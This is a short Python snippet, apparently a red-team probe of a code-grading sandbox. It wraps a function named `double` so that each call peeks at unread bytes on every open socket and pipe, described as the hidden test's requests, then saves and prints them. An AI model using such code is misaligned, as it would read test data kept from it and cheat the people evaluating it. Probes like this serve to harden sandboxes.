# What it tries: peeks at bytes waiting in all sockets and pipes (the hidden test's requests) and prints them at the end.
# %% after double
import os
import socket

loot = []
_double = double
def peek():
    for name in os.listdir("/proc/self/fd"):
        try: s = socket.socket(fileno=os.dup(int(name)))
        except OSError: continue
        try: loot.append(s.recv(1 << 16, socket.MSG_PEEK | socket.MSG_DONTWAIT))
        except OSError: pass
        s.close()
    with open("peeked.bin", "ab") as f: f.write(b"\n".join(loot))
def double(x):
    peek()
    return _double(x)
# %% end
print(loot)
try: print(open("peeked.bin", "rb").read())
except OSError as e: print(e)
